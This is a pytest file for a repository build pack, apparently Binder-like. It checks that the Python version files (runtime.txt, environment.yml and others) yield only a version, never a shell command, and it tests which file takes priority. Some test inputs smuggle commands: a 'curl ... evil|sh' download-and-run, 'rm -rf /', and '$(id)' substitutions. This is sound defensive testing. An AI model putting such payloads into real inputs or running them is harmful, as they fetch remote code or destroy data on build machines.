"""What a repository's files can put into the Dockerfile: only a Python version, never a command."""

import pytest

from binderlite.builds.buildpacks.python import BinderlitePythonBuildPack


@pytest.fixture
def repo(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    return tmp_path


@pytest.mark.parametrize(
    "runtime, version",
    [
        ("python-3.10", "3.10"),
        ("python-3.11.4", "3.11"),
        ("python-3", "3"),
        ("python-2.7", "2.7"),
        ("python-3.8;curl${IFS}evil|sh", None),
        ("python-$(id)", None),
        ("python-3.9 && touch /pwned", None),
    ],
)
def test_runtime_txt_gives_a_version_or_nothing(repo, runtime, version):
    (repo / "runtime.txt").write_text(runtime + "\n")
    assert BinderlitePythonBuildPack(base_image="base").python_request().version == version


@pytest.mark.parametrize(
    "python, version",
    [("3.10", "3.10"), ("3.9.*", "3.9"), ("3.8; rm -rf /", None), ("3.8`id`", None)],
)
def test_environment_yml_python_gives_a_version_or_nothing(repo, python, version):
    (repo / "environment.yml").write_text(f"dependencies:\n  - python={python}\n")
    assert BinderlitePythonBuildPack(base_image="base").python_request().version == version


def test_which_file_names_the_python_follows_repo2docker(repo):
    """environment.yml, then Pipfile.lock, then runtime.txt, then .python-version; silent files let the next speak."""
    bp = lambda: BinderlitePythonBuildPack(base_image="base").python_request()  # noqa: E731
    (repo / ".python-version").write_text("3.12.4\n")
    assert (bp().version, bp().source) == ("3.12", ".python-version")
    (repo / "runtime.txt").write_text("python-3.9\n")
    assert (bp().version, bp().source) == ("3.9", "runtime.txt")
    (repo / "Pipfile.lock").write_text('{"_meta": {"requires": {"python_version": "3.6"}}, "default": {}}')
    assert (bp().version, bp().source) == ("3.6", "Pipfile.lock")
    (repo / "environment.yml").write_text("dependencies:\n  - six\n")
    assert (bp().version, bp().source) == ("3.9", "runtime.txt")
    (repo / "environment.yml").write_text("dependencies:\n  - python=3.13\n")
    assert (bp().version, bp().source) == ("3.13", "environment.yml")


def test_pyproject_requires_python_is_read_outside_a_binder_folder(repo):
    (repo / "pyproject.toml").write_text('[project]\nname = "x"\nrequires-python = ">=3.12"\n')
    assert BinderlitePythonBuildPack(base_image="base").python_request().requires_python == ">=3.12"
    (repo / "binder").mkdir()
    assert BinderlitePythonBuildPack(base_image="base").python_request().requires_python is None
